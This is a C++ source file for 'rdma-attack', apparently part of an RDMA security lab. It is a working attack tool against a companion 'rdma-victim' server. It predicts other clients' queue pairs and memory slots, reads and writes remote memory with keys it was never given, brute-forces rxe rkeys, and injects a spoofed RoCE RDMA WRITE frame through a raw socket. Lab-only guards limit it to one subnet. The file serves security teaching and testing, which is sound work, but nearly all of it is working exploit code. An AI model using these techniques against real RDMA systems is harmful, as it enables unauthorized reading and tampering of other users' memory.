// rdma-attack: what an attacker on the lab's wire does to rdma-victim, one step a command.
//   rdma-attack probe --server ADDR [--port P]
//       connect to the victim as any client would, and print what that shows of the next
//       client's connection (key=value lines): the victim's QP number for us and the next one,
//       our slot's address and rkey and the next slot's, the victim's link address.
//   rdma-attack read --server ADDR [--port P] --address A --rkey K [--length N]
//   rdma-attack write --server ADDR [--port P] --address A --rkey K --text TEXT
//       connect as a client and use a key it was never given (a leaked or guessed one): one RDMA
//       READ or WRITE over our own QP. Prints key=value lines: operation, address, rkey, status
//       (the completion's) and, for a READ that succeeded, the bytes read. Exit 0 if the
//       operation succeeded, 1 if the victim refused it.
//   rdma-attack guess-rkey --server ADDR [--port P] [--below-slot BYTES] [--indices N]
//       find the rkey of a region 64 bytes long that lies BYTES below the first slot we are
//       given (rdma-victim's layout puts its secret there) by trying keys: rxe makes a key from
//       its registration's index (in sequence) and 8 random bits, so the indices just below our
//       slot's, 256 keys each. A wrong key ends the connection: every try is a new one. Prints a
//       line per try (try, rkey, status), then tries, rkey and the bytes read; exit 0 if found.
//   rdma-attack inject-write --interface IF --victim ADDR --victim-mac MAC --spoof ADDR
//                            --qpn N --psn N --address A --rkey K --text TEXT
//       one RC RDMA WRITE Only built by hand (security/roce_frame.hpp) and put on IF through a raw
//       socket, from the spoofed address, with a correct Invariant CRC.
// Only inside the lab's guests (RDMALAB_HOST set) and only to and from the lab's own subnet,
// 198.51.100.0/24: anything else is refused with one line, exit 2.
#include "roce_frame.hpp"
#include "victim_protocol.hpp"

#include "rdmalab/error.hpp"
#include "rdmalab/options.hpp"
#include "rdmalab/port_address.hpp"
#include "rdmalab/qp_bringup.hpp"
#include "rdmalab/qp_transitions.hpp"
#include "rdmalab/tcp_exchange.hpp"
#include "rdmalab/verbs.hpp"

#include <arpa/inet.h>
#include <fmt/core.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>
#include <CLI/CLI.hpp>

#include <cstdlib>
#include <fstream>
#include <optional>
#include <sstream>

using namespace rdmalab;
using namespace rdmalab::security;

namespace {

[[noreturn]] void refuse(const std::string& why) {
    fmt::print(stderr, "rdma-attack: {}\n", why);
    std::exit(2);
}

std::uint32_t lab_or_refuse(const std::string& what, const std::string& text) {
    const auto address = lab_address(text);
    if (!address)
        refuse(fmt::format("{} '{}' is outside the lab's subnet 198.51.100.0/24: refused", what,
                           text));
    return *address;
}

// The kernel's neighbour entry for an address (the ARP table), after our own traffic to it.
std::string neighbour_mac(const std::string& address) {
    std::ifstream arp("/proc/net/arp");
    std::string line;
    std::getline(arp, line);  // the header
    while (std::getline(arp, line)) {
        std::istringstream fields(line);
        std::string ip, type, flags, mac;
        fields >> ip >> type >> flags >> mac;
        if (ip == address) return mac;
    }
    return "";
}

int probe(const QpOptions& options) {
    QpResources r = create_qp_resources(options, IBV_QPT_RC, 4, 4, "attacker");
    apply_transition(r.qp.get(), init_transition(r.local, 0), "attacker");
    TcpExchange tcp =
        TcpExchange::connect_to(options.server_address, options.port, options.timeout(),
                                options.timeout());  // the victim serves one client at a time
    const QpEndpoint ours = local_endpoint(r);
    const QpEndpoint victim = connect_qp(r.qp.get(), tcp, r.local, ours, PeerBuffer::kAdvertised,
                                         Reliability{}, "attacker");
    // What one connection shows: rxe numbers QPs in sequence and keeps one registration's rkey
    // for every slot of a pool, so the next client's QP and slot follow from ours.
    fmt::print("victim_qpn={:#x}\nnext_qpn={:#x}\n", victim.qpn, victim.qpn + 1);
    fmt::print("slot_address={:#x}\nnext_slot_address={:#x}\n", victim.address,
               victim.address + victim.length);
    fmt::print("slot_rkey={:#x}\nslot_bytes={}\n", victim.rkey, victim.length);
    fmt::print("victim_mac={}\n", neighbour_mac(options.server_address));
    // Behave: say we are done (the checksum of the untouched, zeroed slot), as a client does.
    const std::vector<std::uint8_t> zeros(victim.length, 0);
    return send_done(r.qp.get(), r.pd.get(), r.cq.get(), slot_checksum(zeros), options.timeout()) ==
                   IBV_WC_SUCCESS
               ? 0
               : 1;
}

// One connection to the victim as a client: our QP in our PD, connected to the QP it made for
// us, and what it advertised (our slot's address and key). Released in reverse: QP, CQ, PD.
struct ClientConnection {
    QpQueues queues;
    TcpExchange tcp;
    QpEndpoint victim;
};

ClientConnection connect_as_client(ibv_context* context, const PortAddress& local,
                                   const QpOptions& options) {
    QpQueues queues = create_qp_queues(context, IBV_QPT_RC, 4, 4);
    apply_transition(queues.qp.get(), init_transition(local, 0), "attacker");
    TcpExchange tcp = TcpExchange::connect_to(options.server_address, options.port,
                                              options.timeout(), options.timeout());
    Reliability reliability;
    reliability.max_rd_atomic = 1;  // our READs
    const QpEndpoint victim =
        connect_qp(queues.qp.get(), tcp, local, local_endpoint(queues.qp.get(), local),
                   PeerBuffer::kAdvertised, reliability, "attacker");
    return ClientConnection{std::move(queues), std::move(tcp), victim};
}

// One READ or WRITE through our own QP with a key of our choosing; returns the completion's
// status. The QP is of no use after a refusal: the victim's NAK moves both ends to ERROR.
ibv_wc_status remote_access(ClientConnection& c, ibv_wr_opcode opcode,
                            std::span<std::uint8_t> bytes, std::uint64_t address,
                            std::uint32_t rkey, const QpOptions& options) {
    const unsigned access = opcode == IBV_WR_RDMA_READ ? IBV_ACCESS_LOCAL_WRITE : 0;
    const MemoryRegion mr{
        check_ptr(ibv_reg_mr(c.queues.pd.get(), bytes.data(), bytes.size(), access),
                  "ibv_reg_mr(attack buffer)")};
    ibv_sge sge{reinterpret_cast<std::uintptr_t>(bytes.data()),
                static_cast<std::uint32_t>(bytes.size()), mr->lkey};
    ibv_send_wr wr{};
    wr.sg_list = &sge;
    wr.num_sge = 1;
    wr.opcode = opcode;
    wr.send_flags = IBV_SEND_SIGNALED;
    wr.wr.rdma.remote_addr = address;
    wr.wr.rdma.rkey = rkey;
    ibv_send_wr* bad = nullptr;
    check_ibv(ibv_post_send(c.queues.qp.get(), &wr, &bad), "ibv_post_send(attack)");
    return wait_for_any_completion(c.queues.cq.get(), options.timeout(), "the attack's completion")
        .status;
}

// After an access that succeeded the connection is intact: say we are done with our own slot,
// untouched, as a client does (the victim then goes on to its next client).
void behave(ClientConnection& c, const QpOptions& options) {
    const std::vector<std::uint8_t> zeros(c.victim.length, 0);
    send_done(c.queues.qp.get(), c.queues.pd.get(), c.queues.cq.get(), slot_checksum(zeros),
              options.timeout());
}

std::string printable(std::span<const std::uint8_t> bytes) {
    std::string text;
    for (std::uint8_t byte : bytes) {
        if (byte == 0) break;
        text += (byte >= 0x20 && byte < 0x7f && byte != '"') ? static_cast<char>(byte) : '.';
    }
    return text;
}

struct Access {
    std::uint64_t address = 0;
    std::uint32_t rkey = 0;
    std::uint32_t length = kSlotBytes;
    std::string text;
};

int use_key(const QpOptions& options, ibv_wr_opcode opcode, const Access& a) {
    const Context context = open_device(options.device);
    const PortAddress local = choose_port_address(context.get(), 1, options.gid_index);
    ClientConnection c = connect_as_client(context.get(), local, options);
    std::vector<std::uint8_t> bytes(opcode == IBV_WR_RDMA_READ ? a.length : a.text.size());
    if (opcode == IBV_WR_RDMA_WRITE) std::memcpy(bytes.data(), a.text.data(), a.text.size());
    const ibv_wc_status status = remote_access(c, opcode, bytes, a.address, a.rkey, options);
    fmt::print("operation={}\naddress={:#x}\nrkey={:#x}\nstatus={}\n",
               opcode == IBV_WR_RDMA_READ ? "READ" : "WRITE", a.address, a.rkey,
               ibv_wc_status_str(status));
    if (status != IBV_WC_SUCCESS) return 1;
    if (opcode == IBV_WR_RDMA_READ) fmt::print("bytes=\"{}\"\n", printable(bytes));
    behave(c, options);
    return 0;
}

int guess_rkey(const QpOptions& options, std::uint32_t below_slot, unsigned indices) {
    const Context context = open_device(options.device);
    const PortAddress local = choose_port_address(context.get(), 1, options.gid_index);
    std::optional<ClientConnection> c = connect_as_client(context.get(), local, options);
    if (c->victim.address < below_slot) fail("the first slot lies below the offset asked for");
    const std::uint64_t target = c->victim.address - below_slot;
    const std::uint32_t own_index = c->victim.rkey >> 8;
    fmt::print("own_rkey={:#x}\ntarget={:#x}\n", c->victim.rkey, target);
    std::vector<std::uint8_t> bytes(kSlotBytes);
    unsigned tries = 0;
    for (unsigned below = 1; below <= indices && below <= own_index; ++below) {
        for (std::uint32_t key = 0; key < 256; ++key) {
            const std::uint32_t rkey = (own_index - below) << 8 | key;
            if (!c) c = connect_as_client(context.get(), local, options);
            const ibv_wc_status status =
                remote_access(*c, IBV_WR_RDMA_READ, bytes, target, rkey, options);
            fmt::print("try={} rkey={:#x} status={}\n", ++tries, rkey, ibv_wc_status_str(status));
            if (status == IBV_WC_SUCCESS) {
                fmt::print("tries={}\nrkey={:#x}\nbytes=\"{}\"\n", tries, rkey, printable(bytes));
                behave(*c, options);
                return 0;
            }
            // A wrong key is refused with a remote access error; anything else is not a guess
            // that failed but a connection that did.
            if (status != IBV_WC_REM_ACCESS_ERR)
                fail(fmt::format("try {} ended with {}, not a refused key", tries,
                                 ibv_wc_status_str(status)));
            c.reset();  // the refusal moved both ends to ERROR: a new connection for the next try
        }
    }
    fmt::print("tries={}\nrkey=none\n", tries);
    return 1;
}

struct Injection {
    std::string interface, victim, victim_mac, spoof, text;
    std::uint32_t qpn = 0, psn = 0, rkey = 0;
    std::uint64_t address = 0;
};

int inject_write(const Injection& in) {
    RdmaWritePacket packet;
    packet.destination_ip = lab_or_refuse("--victim", in.victim);
    packet.source_ip = lab_or_refuse("--spoof", in.spoof);
    const auto victim_mac = parse_mac(in.victim_mac);
    if (!victim_mac) refuse(fmt::format("--victim-mac '{}' is not a MAC address", in.victim_mac));
    packet.destination_mac = *victim_mac;
    std::ifstream own_mac("/sys/class/net/" + in.interface + "/address");
    std::string mac_text;
    if (in.interface.find('/') != std::string::npos || !std::getline(own_mac, mac_text))
        refuse(fmt::format("no network interface '{}'", in.interface));
    packet.source_mac = *parse_mac(mac_text);
    if (in.qpn > 0xffffff || in.psn > 0xffffff) refuse("--qpn and --psn are 24-bit numbers");
    if (in.text.empty() || in.text.size() > 1024)
        refuse("--text must hold 1 to 1024 bytes (one packet at the lab's MTU)");
    packet.destination_qpn = in.qpn;
    packet.psn = in.psn;
    packet.virtual_address = in.address;
    packet.rkey = in.rkey;
    packet.payload.assign(in.text.begin(), in.text.end());
    packet.ip_id = static_cast<std::uint16_t>(getpid());
    const std::vector<std::uint8_t> frame = build_frame(packet);

    const int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_IP));
    check_errno(fd >= 0, "socket(AF_PACKET) (needs CAP_NET_RAW: the lab's guests run as root)");
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_protocol = htons(ETH_P_IP);
    to.sll_ifindex = static_cast<int>(if_nametoindex(in.interface.c_str()));
    to.sll_halen = 6;
    std::copy(packet.destination_mac.begin(), packet.destination_mac.end(), to.sll_addr);
    const ssize_t sent =
        sendto(fd, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
    const int error = errno;
    close(fd);
    errno = error;
    check_errno(sent == static_cast<ssize_t>(frame.size()), "sendto(AF_PACKET)");
    fmt::print(
        "attacker: sent one RDMA WRITE Only ({} bytes of payload, frame {} bytes) on {}: {} → {} "
        "QP {:#x} PSN {:#x}, address {:#x}, rkey {:#x}\n",
        in.text.size(), frame.size(), in.interface, in.spoof, in.victim, in.qpn, in.psn, in.address,
        in.rkey);
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (std::getenv("RDMALAB_HOST") == nullptr)
        refuse("runs only inside the lab's guests (RDMALAB_HOST is not set: ./rdmalab lab ...)");
    return run_program("rdma-attack", [&] {
        CLI::App app{"Attacks on rdma-victim, on the lab's wire only", "rdma-attack"};
        app.require_subcommand(1);
        QpOptions options;
        options.port = 18600;
        options.timeout_s = 20;
        auto* probe_command = app.add_subcommand("probe", "connect as a client; predict the next");
        probe_command->add_option("--server", options.server_address, "the victim's address")
            ->required();
        probe_command->add_option("-p,--port", options.port, "its TCP port")
            ->check(CLI::Range(1, 65535));
        Access access;
        auto* read_command = app.add_subcommand("read", "READ with a key we were never given");
        auto* write_command = app.add_subcommand("write", "WRITE with a key we were never given");
        for (CLI::App* sub : {read_command, write_command}) {
            sub->add_option("--server", options.server_address, "the victim's address")->required();
            sub->add_option("-p,--port", options.port, "its TCP port")->check(CLI::Range(1, 65535));
            sub->add_option("--address", access.address, "the virtual address")->required();
            sub->add_option("--rkey", access.rkey, "the key")->required();
        }
        read_command->add_option("--length", access.length, "bytes to read (1..4096)")
            ->check(CLI::Range(1, 4096));
        write_command->add_option("--text", access.text, "what to write (1..1024 bytes)")
            ->required()
            ->check([](const std::string& text) {
                return text.empty() || text.size() > 1024 ? "1 to 1024 bytes" : "";
            });
        std::uint32_t below_slot = kSlotBytes;
        unsigned indices = 2;
        auto* guess = app.add_subcommand("guess-rkey", "find a region's key by trying keys");
        guess->add_option("--server", options.server_address, "the victim's address")->required();
        guess->add_option("-p,--port", options.port, "its TCP port")->check(CLI::Range(1, 65535));
        guess->add_option("--below-slot", below_slot, "the region lies this far below our slot")
            ->check(CLI::Range(1, 1 << 20));
        guess->add_option("--indices", indices, "how many registration indices below ours to try")
            ->check(CLI::Range(1, 16));
        Injection in;
        auto* inject = app.add_subcommand("inject-write", "one hand-made RDMA WRITE, spoofed");
        inject->add_option("--interface", in.interface, "the interface to send on")->required();
        inject->add_option("--victim", in.victim, "the victim's address")->required();
        inject->add_option("--victim-mac", in.victim_mac, "its link address")->required();
        inject->add_option("--spoof", in.spoof, "the source address to claim")->required();
        inject->add_option("--qpn", in.qpn, "the victim's QP number")->required();
        inject->add_option("--psn", in.psn, "the PSN the victim expects")->required();
        inject->add_option("--address", in.address, "the virtual address to write")->required();
        inject->add_option("--rkey", in.rkey, "the rkey")->required();
        inject->add_option("--text", in.text, "what to write")->required();
        parse_or_exit(app, argc, argv);
        if (!app.got_subcommand("inject-write")) lab_or_refuse("--server", options.server_address);
        if (probe_command->parsed()) return probe(options);
        if (read_command->parsed()) return use_key(options, IBV_WR_RDMA_READ, access);
        if (write_command->parsed()) return use_key(options, IBV_WR_RDMA_WRITE, access);
        if (guess->parsed()) return guess_rkey(options, below_slot, indices);
        return inject_write(in);
    });
}
